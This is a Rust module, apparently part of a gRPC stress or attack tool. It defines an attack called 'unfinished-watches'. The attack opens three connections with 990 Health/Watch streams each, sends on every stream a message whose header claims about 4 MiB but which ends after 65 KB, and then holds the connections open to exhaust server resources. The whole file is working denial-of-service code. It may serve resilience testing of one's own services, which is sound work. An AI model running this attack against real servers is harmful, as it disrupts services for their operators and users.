//! A request message that is announced with 4 MiB, begun and never finished. Watch has no deadline.

use anyhow::Result;
use bytes::Bytes;

use crate::attack::{Attack, hold};
use crate::grpc::{self, WATCH};
use crate::peer::{Peer, send_all};
use crate::stage::Stage;

const CONNECTIONS: usize = 3;
const STREAMS: usize = 990;
/// What the header of the message claims: as much as gRPC servers accept by default.
const ANNOUNCED: u32 = 4 * 1024 * 1024 - 1;
const SENT: usize = 65_000;

pub(super) const ATTACK: Attack = Attack::new(
    "unfinished-watches",
    "3 × 990 Health/Watch whose message of 4 MiB ends after 65 KB, no token",
    |stage| {
        Box::pin(async move {
            let connections = (0..CONNECTIONS).map(|_| connection(&stage));
            futures_util::future::try_join_all(connections).await.map(drop)
        })
    },
);

/// One connection, held.
pub(super) async fn connection(stage: &Stage) -> Result<()> {
    let mut message = grpc::announce(ANNOUNCED);
    message.resize(5 + SENT, 0x0a);
    let message: Bytes = message.freeze();
    let (mut peer, mut streams) = (Peer::open(stage, 65_535, None).await?, Vec::new());
    for _ in 0..STREAMS {
        let Ok((mut sender, answer)) = peer.call(WATCH).await else { break };
        tokio::spawn(answer.count());
        // A stream that the server has ended takes no more data.
        let _ = send_all(&mut sender, message.clone()).await;
        streams.push(sender);
    }
    hold().await
}
